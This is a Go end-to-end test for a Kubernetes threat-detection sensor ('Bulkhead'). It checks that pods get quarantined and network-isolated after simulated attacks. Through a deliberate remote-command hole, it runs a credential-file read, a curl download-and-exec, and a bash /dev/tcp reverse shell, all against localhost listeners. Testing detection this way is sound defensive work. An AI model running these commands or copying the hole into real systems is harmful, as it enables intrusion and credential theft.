//go:build e2e

package e2e

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	networkingv1 "k8s.io/api/networking/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/labels"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	securityv1alpha1 "github.com/bulkhead-dev/bulkhead/api/v1alpha1"
	"github.com/bulkhead-dev/bulkhead/internal/behavior"
	"github.com/bulkhead-dev/bulkhead/internal/behavior/kubestore"
	"github.com/bulkhead-dev/bulkhead/test/framework"
	"github.com/bulkhead-dev/bulkhead/test/framework/localcluster"
	"github.com/bulkhead-dev/bulkhead/test/framework/nodekit"
)

// sensorLearning is the sensors' --learning-window.
const sensorLearning = 25 * time.Second

// The sensor's baselines are flushed every minute and a node rescores
// against the merged model at the first flush two flushes after the window
// closed (internal/sensor Agent.flush): at most this long after the start.
const sharedModelAfter = sensorLearning + 3*time.Minute + 10*time.Second

// TestSensorEndToEnd: `bulkhead sensor` on two kwok nodes, real servers in
// the pods' kubelet-style cgroups under load, the manager ingesting the
// sensors' behavior scores; normal load contains nothing, four attack
// behaviours each contain their pod with the behaviour named, the two pods
// of one Deployment share one baseline, and the sensor isolates the
// contained pod in the kernel (issue 17: real packets) while its sibling's
// traffic flows.
func TestSensorEndToEnd(t *testing.T) {
	// Its own target, about 5 minutes: make test-e2e-sensor (CI runs it as
	// ci-e2e-sensor), so make test-e2e does not run it twice.
	if os.Getenv("BULKHEAD_E2E_SENSOR") == "" {
		t.Skip("the real-kernel sensor scenario runs with make test-e2e-sensor (BULKHEAD_E2E_SENSOR=1)")
	}
	k := newKernelKit(t)
	s := newScenario(t)

	// The cluster DNS that allowDNS keeps open: kwok has none, so a kube-dns
	// EndpointSlice names a UDP listener of this test.
	var dns *counter
	if ip := hostAddr(); ip == "" {
		logf("  no non-loopback IPv4 address on this host: skipping the allowDNS assertions (EndpointSlices refuse loopback)")
	} else {
		dns = listenUDP(t, ip)
		s.clusterDNS(dns.addr)
	}

	s.applyPolicy("sensor-"+s.ns, s.sensorPolicyYAML("sensor-"+s.ns))
	shop := s.deploySpread(2)
	nodeA, nodeB := shop[0].Spec.NodeName, shop[1].Spec.NodeName
	blog := s.bareServerPod("blog", nodeA)
	wiki := s.bareServerPod("wiki", nodeB)

	// Listeners of the pods' own traffic (issue 17), counted per pod.
	hold, udp := listenTCP(t, "127.0.0.1"), listenUDP(t, "127.0.0.1")
	connA, connB, connWiki := listenTCP(t, "127.0.0.1"), listenTCP(t, "127.0.0.1"), listenTCP(t, "127.0.0.1")

	// Real servers in the pods' cgroups, each with a netprobe making the
	// pod's own connections.
	www := k.site(t, "www")
	// The blog serves the same pages plus its CGI directory.
	blogDir := k.site(t, "blog")
	cgi, err := os.ReadFile(filepath.Join(framework.RepoRoot(), "test", "e2e", "testdata", "blog", "cgi-bin", "sh.cgi"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(blogDir, "cgi-bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(blogDir, "cgi-bin", "sh.cgi"), cgi, 0o755); err != nil {
		t.Fatal(err)
	}
	netprobe := filepath.Join(k.bin, "netprobe")
	probeArgs := func(name, connect, connectFile string) []string {
		a := []string{"-name=" + name, "-hold=" + hold.addr, "-connect=" + connect, "-udp=" + udp.addr}
		if dns != nil {
			a[3] += "," + dns.addr
		}
		if connectFile != "" {
			a = append(a, "-connect-file="+connectFile)
		}
		return a
	}
	type served struct {
		pod  corev1.Pod
		c    *nodekit.Container
		base string
	}
	servers := make([]served, 0, len(shop))
	crossFile := filepath.Join(k.Dir, "shop-b-connect")
	for i, p := range shop {
		c := k.containerFor(p)
		port := freePort(t)
		k.start(c, "shopserver", filepath.Join(k.bin, "shopserver"), "-addr", fmt.Sprintf("127.0.0.1:%d", port), "-root", www)
		conn, file := connA, ""
		if i == 1 {
			conn, file = connB, crossFile
		}
		k.start(c, "netprobe", netprobe, probeArgs(p.Name, conn.addr, file)...)
		servers = append(servers, served{p, c, fmt.Sprintf("http://127.0.0.1:%d", port)})
	}
	blogC := k.containerFor(blog)
	blogPort := freePort(t)
	k.start(blogC, "python3-http.server", "python3", "-m", "http.server", "--cgi", "--bind", "127.0.0.1", "--directory", blogDir, fmt.Sprint(blogPort))
	wikiC := k.containerFor(wiki)
	wikiPort := freePort(t)
	k.start(wikiC, "perl-wiki.pl", "perl", filepath.Join(framework.RepoRoot(), "test", "e2e", "testdata", "wiki", "wiki.pl"), fmt.Sprint(wikiPort), www)
	k.start(wikiC, "netprobe", netprobe, probeArgs(wiki.Name, connWiki.addr, "")...)
	blogBase, wikiBase := fmt.Sprintf("http://127.0.0.1:%d", blogPort), fmt.Sprintf("http://127.0.0.1:%d", wikiPort)
	for _, b := range []string{servers[0].base, servers[1].base, blogBase, wikiBase} {
		waitHTTP(s, b+"/index.html")
	}
	logf("servers up: shop (Go net/http) in %s and %s, blog (python3 -m http.server --cgi) in %s, wiki (perl IO::Socket) in %s", shop[0].Name, shop[1].Name, blog.Name, wiki.Name)

	loads := map[string]*nodekit.Load{}
	for _, sv := range servers {
		loads[sv.pod.Name] = startLoad(t, sv.base, "/index.html", "/style.css", "/img/logo.svg", "/index.html")
	}
	loads[blog.Name] = startLoad(t, blogBase, "/index.html", "/style.css")
	loads[wiki.Name] = startLoad(t, wikiBase, "/index.html", "/style.css")

	started := time.Now()
	sensors := map[string]*sensorProc{}
	for _, n := range []string{nodeA, nodeB} {
		sensors[n] = k.startSensor(t, n, sensorLearning)
	}
	for _, n := range []string{nodeA, nodeB} {
		sensors[n].ready(s, 60*time.Second)
	}

	// Learning, then normal load contains nothing.
	logf("learning for %s under load", sensorLearning)
	time.Sleep(time.Until(started.Add(sensorLearning + 5*time.Second)))
	s.consistently(20*time.Second, "normal load after learning: no Quarantine", func(ctx context.Context) error {
		var list securityv1alpha1.QuarantineList
		if err := s.c.List(ctx, &list, client.InNamespace(s.ns)); err != nil {
			return err
		}
		if len(list.Items) > 0 {
			q := list.Items[0]
			return fmt.Errorf("Quarantine %s for %s under normal load: %s", q.Name, q.Spec.Target.Name, reasonText(&q))
		}
		return nil
	})
	for name, ld := range loads {
		ok, fail, last := ld.Stats()
		if ok == 0 {
			s.t.Fatalf("load on %s: no page served (%d failures, last %v)", name, fail, last)
		}
		logf("  load on %s: %d pages served, %d failures", name, ok, fail)
	}

	// (a) A shell spawned by the blog's python3 web server (an injected CGI script).
	s.attack(k, blog.Name, "shell spawned by python3 (CGI)", []string{"sh"}, func() {
		attempt(blogBase + "/cgi-bin/sh.cgi")
	})

	// (d) Reading a credential file, through the shop's remote-code-execution hole.
	secret := filepath.Join(k.Dir, "serviceaccount", "token")
	_ = os.MkdirAll(filepath.Dir(secret), 0o755)
	_ = os.WriteFile(secret, []byte("e2e-not-a-real-token"), 0o644)
	s.attack(k, shop[0].Name, "credential file read", []string{"cat"}, func() {
		rce(servers[0].base, "cat "+secret, false)
	})

	// (b) Download and exec, through the same hole of the same pod after
	// its release: a released pod is watched as before.
	payloads := k.payloadServer(t)
	dl := "/tmp/bh-e2e-payload-" + nodekit.RandHex(4)
	t.Cleanup(func() { _ = os.Remove(dl) })
	_, payloadPort, _ := net.SplitHostPort(strings.TrimPrefix(payloads, "http://"))
	s.attack(k, shop[0].Name, "download and exec", []string{"curl", "bh-e2e-payload", ":TCP/" + payloadPort}, func() {
		rce(servers[0].base, fmt.Sprintf("curl -fsS -o %s %s/payload && chmod +x %s && %s", dl, payloads, dl, dl), false)
	})

	// One baseline per workload, holding what both nodes learned: each shop
	// pod connected to its own listener while learning.
	s.sharedBaseline(shop[0], connA.addr, connB.addr)

	// The second pod is scored against the shared model: once its node has
	// reloaded it, connecting where only the first pod connected while
	// learning is normal, not novel.
	logf("waiting for the sensors to rescore against the merged baseline (%s after start)", sharedModelAfter)
	time.Sleep(time.Until(started.Add(sharedModelAfter)))
	if err := os.WriteFile(crossFile, []byte(connA.addr), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := flowing(connA, shop[1].Name, 5*time.Second); err != nil {
		t.Fatalf("shop pod %s does not reach %s: %v", shop[1].Name, connA.addr, err)
	}
	s.consistently(15*time.Second, shop[1].Name+" connecting where "+shop[0].Name+" did while learning: no Quarantine", func(ctx context.Context) error {
		if q, err := s.activeQuarantine(ctx, shop[1].Name); err == nil {
			return fmt.Errorf("Quarantine %s: %s", q.Name, reasonText(q))
		}
		return nil
	})

	// (c) A reverse shell from the second pod, then real packets (issue 17).
	s.reverseShell(k, shop[1], servers[1].base, sensors[nodeB], wiki, hold, udp, connB, connWiki, dns)
}

// sensorPolicyYAML weighs the built-in behavior detector alone and
// isolates (DNS allowed) on a single score of 0.8.
func (s *scenario) sensorPolicyYAML(name string) string {
	return fmt.Sprintf(`apiVersion: security.bulkhead.dev/v1alpha1
kind: ThreatPolicy
metadata:
  name: %s
spec:
  mode: Enforce
  selector:
    namespaceSelector: {matchLabels: {%s: %s}}
    podSelector:
      matchExpressions: [{key: app, operator: In, values: [shop, blog]}]
  detectors:
  - {name: behavior, weight: 100}
  scoring:
    threshold: "0.80"
    sustain: 1
  response:
  - minScore: "0.80"
    actions: [{type: Isolate, isolate: {allowDNS: true}}]
  safeguards:
    maxActiveQuarantines: 5
    cooldown: 1s
`, name, scenarioLabel, s.ns)
}

// deploySpread creates Deployment shop with n replicas on n different nodes.
func (s *scenario) deploySpread(n int32) []corev1.Pod {
	s.t.Helper()
	y := fmt.Sprintf(`apiVersion: apps/v1
kind: Deployment
metadata: {name: shop, namespace: %s, labels: {app: shop}}
spec:
  replicas: %d
  selector: {matchLabels: {app: shop}}
  template:
    metadata: {labels: {app: shop}}
    spec:
      affinity:
        podAntiAffinity:
          requiredDuringSchedulingIgnoredDuringExecution:
          - {topologyKey: kubernetes.io/hostname, labelSelector: {matchLabels: {app: shop}}}
      containers: [{name: shop, image: registry.example/shop:1.0}]
`, s.ns, n)
	s.kubectl(y, "apply", "--server-side", "--field-manager=e2e", "-f", "-")
	pods := s.waitShopRunning(n, "")
	if pods[0].Spec.NodeName == pods[1].Spec.NodeName {
		s.t.Fatalf("shop pods on one node %s despite anti-affinity", pods[0].Spec.NodeName)
	}
	return pods
}

// bareServerPod creates a Running pod labelled app=name on node.
func (s *scenario) bareServerPod(name, node string) corev1.Pod {
	s.t.Helper()
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: s.ns, Labels: map[string]string{"app": name}},
		Spec:       corev1.PodSpec{NodeName: node, Containers: []corev1.Container{{Name: name, Image: "registry.example/" + name + ":1.0"}}},
	}
	if err := s.c.Create(env.ctx, p); err != nil {
		s.t.Fatalf("creating pod %s: %v", name, err)
	}
	var got corev1.Pod
	s.eventually(60*time.Second, "pod "+name+" Running on "+node, func(ctx context.Context) error {
		if err := s.c.Get(ctx, client.ObjectKeyFromObject(p), &got); err != nil {
			return err
		}
		if got.Status.Phase != corev1.PodRunning {
			return fmt.Errorf("phase %s", got.Status.Phase)
		}
		return nil
	})
	return got
}

// clusterDNS publishes addr as the kube-dns endpoints (no Service: kwok
// has no proxy; the sensor reads the EndpointSlices).
func (s *scenario) clusterDNS(addr string) {
	s.t.Helper()
	host, port, _ := net.SplitHostPort(addr)
	var p int32
	_, _ = fmt.Sscan(port, &p)
	es := &discoveryv1.EndpointSlice{
		ObjectMeta: metav1.ObjectMeta{Name: "kube-dns-e2e-" + nodekit.RandHex(3), Namespace: "kube-system",
			Labels: map[string]string{discoveryv1.LabelServiceName: "kube-dns"}},
		AddressType: discoveryv1.AddressTypeIPv4,
		Endpoints:   []discoveryv1.Endpoint{{Addresses: []string{host}, Conditions: discoveryv1.EndpointConditions{Ready: ptr.To(true)}}},
		Ports:       []discoveryv1.EndpointPort{{Name: ptr.To("dns"), Protocol: ptr.To(corev1.ProtocolUDP), Port: &p}},
	}
	if err := s.c.Create(env.ctx, es); err != nil {
		s.t.Fatalf("creating the kube-dns EndpointSlice: %v", err)
	}
	s.undo = append(s.undo, func() { _ = s.c.Delete(context.Background(), es) })
	logf("  cluster DNS: EndpointSlice kube-system/%s → %s (udp)", es.Name, addr)
}

// attack runs act against pod and requires the pod contained with one of
// markers (naming the behaviour) in the Quarantine's reason or evidence;
// then it releases the Quarantine and waits until the pod is free.
func (s *scenario) attack(k *kernelKit, pod, what string, markers []string, act func()) {
	s.t.Helper()
	t0 := time.Now()
	logf("attack on %s: %s", pod, what)
	act()
	done := time.Now()
	q, err := s.contained(pod)
	if err != nil {
		// The scenario goes on: the other attacks and the kernel checks
		// still say what works.
		s.t.Errorf("attack %q on %s: %v", what, pod, err)
		return
	}
	logf("  %s contained %s after the attack: %s", pod, time.Since(t0).Round(10*time.Millisecond), reasonText(q))
	s.requireNamed(q, what, markers)
	// The attack's processes have ended, but under load its last execs can
	// reach the manager in a later batch than the one that contained the
	// pod: released before them, the pod would be contained again by the
	// same attack. Release once the sensor has scored the pod past the
	// attack's end (its next sample, within 10s; a score that barely moved
	// is not sent, so after 20s release anyway).
	if err := poll(env.ctx, 20*time.Second, "the sensor scored "+pod+" past the attack", func(context.Context) error {
		if !k.recorder(s.t).scoredSince(pod, done) {
			return errors.New("no score for later events yet")
		}
		return nil
	}); err != nil {
		logf("  releasing anyway: %v", err)
	}
	s.release(q)
}

func (s *scenario) requireNamed(q *securityv1alpha1.Quarantine, what string, markers []string) {
	s.t.Helper()
	text := reasonText(q)
	if q.Spec.Reason == nil || q.Spec.Reason.Detector != "behavior" {
		s.t.Errorf("Quarantine %s: reason %+v, want detector behavior", q.Name, q.Spec.Reason)
	}
	for _, m := range markers {
		if strings.Contains(text, m) {
			return
		}
	}
	s.t.Errorf("Quarantine %s for %q names none of %q in its reason and evidence: %s", q.Name, what, markers, text)
}

// reasonText is the Quarantine's reason summary and its evidence's score reasons.
func reasonText(q *securityv1alpha1.Quarantine) string {
	var parts []string
	if r := q.Spec.Reason; r != nil {
		parts = append(parts, fmt.Sprintf("reason[%s %s: %s]", r.Detector, r.Score, r.Summary))
	}
	if ev := q.Status.Evidence; ev != nil {
		for _, sc := range ev.Scores {
			parts = append(parts, fmt.Sprintf("evidence[%s %s: %s]", sc.Source, sc.Score, sc.Reason))
		}
	}
	return strings.Join(parts, " ")
}

// activeQuarantine is the unreleased Quarantine targeting pod.
func (s *scenario) activeQuarantine(ctx context.Context, pod string) (*securityv1alpha1.Quarantine, error) {
	var list securityv1alpha1.QuarantineList
	if err := s.c.List(ctx, &list, client.InNamespace(s.ns)); err != nil {
		return nil, err
	}
	for i := range list.Items {
		q := &list.Items[i]
		if q.Spec.Target.Name == pod && !ptr.Deref(q.Spec.Released, false) && q.Status.Phase != securityv1alpha1.PhaseReleased {
			return q, nil
		}
	}
	return nil, fmt.Errorf("no active Quarantine for pod %s (%d in namespace)", pod, len(list.Items))
}

func (s *scenario) waitContained(pod string) *securityv1alpha1.Quarantine {
	s.t.Helper()
	q, err := s.contained(pod)
	if err != nil {
		s.t.Fatal(err)
	}
	return q
}

// contained waits for pod's Quarantine to be Contained and the pod isolated.
func (s *scenario) contained(pod string) (*securityv1alpha1.Quarantine, error) {
	var q *securityv1alpha1.Quarantine
	err := poll(env.ctx, 30*time.Second, "pod "+pod+" contained", func(ctx context.Context) (err error) {
		if q, err = s.activeQuarantine(ctx, pod); err != nil {
			return err
		}
		if q.Status.Phase != securityv1alpha1.PhaseContained {
			return fmt.Errorf("Quarantine %s phase %q, actions %s", q.Name, q.Status.Phase, actionStates(q))
		}
		return s.checkIsolated(ctx, pod, q.Name)
	})
	return q, err
}

// release releases q as the admin, recording the admin as the actor.
func (s *scenario) release(q *securityv1alpha1.Quarantine) {
	s.t.Helper()
	patch := fmt.Sprintf(`{"metadata":{"annotations":{%q:"bulkhead-localcluster-admin"}},"spec":{"released":true}}`, securityv1alpha1.ActorAnnotation)
	s.kubectl("", "patch", "quarantine", q.Name, "-n", s.ns, "--type=merge", "-p", patch)
	s.waitPhase(q.Name, securityv1alpha1.PhaseReleased)
	s.eventually(30*time.Second, "pod "+q.Spec.Target.Name+" free", func(ctx context.Context) error {
		return s.checkPodFree(ctx, q.Spec.Target.Name)
	})
	// The policy's cooldown (1s) refuses a new Quarantine of a pod just
	// released, by design: the next attack comes after it.
	time.Sleep(2 * time.Second)
}

// sharedBaseline requires one baseline ConfigMap for the shop workload,
// holding the destinations both pods (on two nodes) connected to while
// learning.
func (s *scenario) sharedBaseline(pod corev1.Pod, destA, destB string) {
	s.t.Helper()
	key := kubestore.KeyOf(&pod)
	s.eventually(90*time.Second, "one shared baseline for "+key.String()+" with both nodes' learning", func(ctx context.Context) error {
		var cms corev1.ConfigMapList
		if err := s.c.List(ctx, &cms, client.InNamespace(env.install.Namespace)); err != nil {
			return err
		}
		var found []*behavior.Baseline
		sizes := []int{}
		for i := range cms.Items {
			data, ok := cms.Items[i].BinaryData[kubestore.DataKey]
			if !ok {
				continue
			}
			var b behavior.Baseline
			if err := b.UnmarshalBinary(data); err != nil {
				return fmt.Errorf("ConfigMap %s: %v", cms.Items[i].Name, err)
			}
			if b.Key.Namespace == key.Namespace && b.Key.Owner == key.Owner {
				found = append(found, &b)
				sizes = append(sizes, len(data))
				if cms.Items[i].Name != kubestore.Name(b.Key) {
					return fmt.Errorf("baseline of %s in ConfigMap %s, want %s", b.Key, cms.Items[i].Name, kubestore.Name(b.Key))
				}
			}
		}
		if len(found) != 1 {
			return fmt.Errorf("%d baselines for workload %s/%s, want 1", len(found), key.Namespace, key.Owner)
		}
		b := found[0]
		for _, d := range []string{destA, destB} {
			host, port, _ := net.SplitHostPort(d)
			if !b.Net.Dests.Has(host + ":TCP/" + port) {
				return fmt.Errorf("baseline %s lacks destination %s (learned on one node only?)", b.Key, d)
			}
		}
		logf("  baseline %s: %d bytes, %d events", b.Key, sizes[0], b.Events)
		return nil
	})
}

// reverseShell opens a reverse shell from pod through its server's hole
// to a listener of the test, and checks what the kernel does to the pod's
// packets once the pod is contained, and after release.
func (s *scenario) reverseShell(k *kernelKit, pod corev1.Pod, base string, sensor *sensorProc, sibling corev1.Pod, hold, udp, conn, siblingConn, dns *counter) {
	s.t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		s.t.Fatal(err)
	}
	defer func() { _ = l.Close() }()
	_, rport, _ := net.SplitHostPort(l.Addr().String())
	t0 := time.Now()
	logf("attack on %s: reverse shell to %s", pod.Name, l.Addr())
	rce(base, fmt.Sprintf("bash -c 'exec bash -i >/dev/tcp/127.0.0.1/%s 0<&1 2>&1'", rport), true)
	_ = l.(*net.TCPListener).SetDeadline(time.Now().Add(10 * time.Second))
	shell, err := l.Accept()
	if err != nil {
		s.t.Fatalf("reverse shell did not connect: %v", err)
	}
	defer func() { _ = shell.Close() }()
	// The shell keeps talking on its established connection (the sensor may
	// isolate the pod before the first line: the connection is established,
	// which is what must be cut).
	if _, err := fmt.Fprintf(shell, "while :; do echo alive; sleep 0.2; done\n"); err != nil {
		s.t.Fatal(err)
	}
	lines := make(chan error, 1)
	go func() {
		sc := bufio.NewScanner(shell)
		n := 0
		for sc.Scan() {
			n++
		}
		err := sc.Err()
		if err == nil {
			err = io.EOF
		}
		logf("  reverse shell: %d lines before the connection ended: %v", n, err)
		lines <- err
	}()
	q := s.waitContained(pod.Name)
	logf("  %s contained %s after the reverse shell: %s", pod.Name, time.Since(t0).Round(10*time.Millisecond), reasonText(q))
	s.requireNamed(q, "reverse shell", []string{"bash", ":TCP/" + rport})

	// Enforced in the kernel by the sensor on the pod's node.
	tc := time.Now()
	// The established connection is cut: the listener sees a reset (or
	// the end) while it keeps writing to the shell.
	cut := time.NewTicker(300 * time.Millisecond)
	defer cut.Stop()
	deadline := time.After(30 * time.Second)
wait:
	for {
		select {
		case err := <-lines:
			if !errors.Is(err, syscall.ECONNRESET) {
				s.t.Fatalf("the reverse shell's connection ended with %v, not reset: the kernel did not abort it", err)
			}
			logf("  ✓ reverse shell connection reset %s after Contained: %v", time.Since(tc).Round(10*time.Millisecond), err)
			break wait
		case <-cut.C:
			_ = shell.SetWriteDeadline(time.Now().Add(time.Second))
			_, _ = fmt.Fprintf(shell, "\n")
		case <-deadline:
			s.t.Fatalf("the reverse shell's established connection still open 30s after the Quarantine was Contained\n%s", sensor.Log(4096))
		}
	}
	// The pod's held connection, new connections and UDP are dropped; DNS
	// to the cluster DNS passes; the sibling's traffic flows.
	s.eventually(20*time.Second, "pod "+pod.Name+"'s traffic dropped in the kernel", func(ctx context.Context) error {
		for _, c := range []*counter{hold, conn, udp} {
			if err := silent(c, pod.Name, 2*time.Second); err != nil {
				return err
			}
		}
		return nil
	})
	if dns != nil {
		if err := flowing(dns, pod.Name, 5*time.Second); err != nil {
			s.t.Errorf("allowDNS: the isolated pod's datagrams to the cluster DNS are dropped: %v", err)
		} else {
			logf("  ✓ the isolated pod still reaches the cluster DNS %s", dns.addr)
		}
	}
	for _, c := range []*counter{hold, siblingConn, udp} {
		if err := flowing(c, sibling.Name, 5*time.Second); err != nil {
			s.t.Fatalf("sibling pod %s's traffic touched: %v", sibling.Name, err)
		}
	}
	logf("  ✓ sibling pod %s's held connection, new connections and UDP flow", sibling.Name)
	s.requireEnforcementStatus(q, pod)

	// After release: traffic flows again and nothing of Bulkhead's stays pinned.
	s.release(q)
	s.eventually(30*time.Second, "pod "+pod.Name+"'s traffic flows again after release", func(ctx context.Context) error {
		for _, c := range []*counter{hold, conn, udp} {
			if err := flowing(c, pod.Name, 2*time.Second); err != nil {
				return err
			}
		}
		return nil
	})
	s.eventually(15*time.Second, "no BPF pins left under "+k.PinDir, func(ctx context.Context) error {
		if left := k.Pins(); len(left) > 0 {
			return fmt.Errorf("pinned: %v", left)
		}
		return nil
	})
}

// requireEnforcementStatus checks that the Isolate action's status reports
// what the node's sensor enforces in the kernel (issue 17 item 3): the pod
// dropped on its node and its established connections destroyed.
func (s *scenario) requireEnforcementStatus(q *securityv1alpha1.Quarantine, pod corev1.Pod) {
	s.t.Helper()
	s.eventually(30*time.Second, "Quarantine "+q.Name+" reports the kernel enforcement on "+pod.Spec.NodeName, func(ctx context.Context) error {
		cur, err := s.quarantine(ctx, q.Name)
		if err != nil {
			return err
		}
		for _, a := range cur.Status.Actions {
			if a.Type != securityv1alpha1.ActionIsolate {
				continue
			}
			for _, k := range a.Kernel {
				if k.Pod != pod.Name {
					continue
				}
				if k.Node != pod.Spec.NodeName || !k.Enforced || !k.ConnectionsCut || k.SocketsDestroyed < 1 || k.Method == "" {
					return fmt.Errorf("Isolate kernel status %+v: want enforced on %s with connections cut", k, pod.Spec.NodeName)
				}
				logf("  Isolate status: enforced in the kernel on %s, %d sockets destroyed (%s)", k.Node, k.SocketsDestroyed, k.Method)
				return nil
			}
			return fmt.Errorf("Isolate status has no kernel entry for %s: %+v", pod.Name, a.Kernel)
		}
		return fmt.Errorf("no Isolate action in status: %s", actionStates(cur))
	})
}

// site is the static content every server serves.
func (k *kernelKit) site(t *testing.T, name string) string {
	dir := filepath.Join(k.Dir, name)
	for name, body := range map[string]string{
		"index.html":   "<html><head><link rel=stylesheet href=style.css></head><body>shop</body></html>\n",
		"style.css":    "body { font-family: sans-serif }\n",
		"img/logo.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>\n",
	} {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// payloadServer serves the "malware" an attacker downloads.
func (k *kernelKit) payloadServer(t *testing.T) string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = fmt.Fprint(w, "#!/bin/sh\necho pwned\n")
	}), ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })
	return "http://" + l.Addr().String()
}

// rce runs cmd through the shop server's /debug/run hole. The pod may be
// isolated while the command runs, so the answer is only logged.
func rce(base, cmd string, detach bool) {
	u := base + "/debug/run?cmd=" + url.QueryEscape(cmd)
	if detach {
		u += "&detach=1"
	}
	attempt(u)
}

// attempt is an attacker's request: its answer is logged, never required.
func attempt(u string) {
	hc := &http.Client{Timeout: 10 * time.Second}
	resp, err := hc.Get(u)
	if err != nil {
		logf("  attacker's request %s: %v", u, err)
		return
	}
	_ = resp.Body.Close()
	logf("  attacker's request %s: %s", u, resp.Status)
}

func waitHTTP(s *scenario, u string) {
	s.t.Helper()
	s.eventually(20*time.Second, "GET "+u, func(ctx context.Context) error {
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return err
		}
		_ = resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			return fmt.Errorf("%s", resp.Status)
		}
		return nil
	})
}

func freePort(t *testing.T) int {
	t.Helper()
	p, err := localcluster.FreePort()
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// checkPodFree: the pod carries no quarantine label and no NetworkPolicy of
// Bulkhead's selects it (other pods of the namespace may be contained).
func (s *scenario) checkPodFree(ctx context.Context, pod string) error {
	var p corev1.Pod
	if err := s.c.Get(ctx, client.ObjectKey{Namespace: s.ns, Name: pod}, &p); err != nil {
		return err
	}
	if v, ok := p.Labels[securityv1alpha1.QuarantineLabel]; ok {
		return fmt.Errorf("pod %s carries %s=%s", pod, securityv1alpha1.QuarantineLabel, v)
	}
	var nps networkingv1.NetworkPolicyList
	if err := s.c.List(ctx, &nps, client.InNamespace(s.ns)); err != nil {
		return err
	}
	for _, np := range nps.Items {
		sel, err := metav1.LabelSelectorAsSelector(&np.Spec.PodSelector)
		if err != nil {
			return err
		}
		if sel.Matches(labels.Set(p.Labels)) {
			return fmt.Errorf("NetworkPolicy %s selects pod %s", np.Name, pod)
		}
	}
	return nil
}
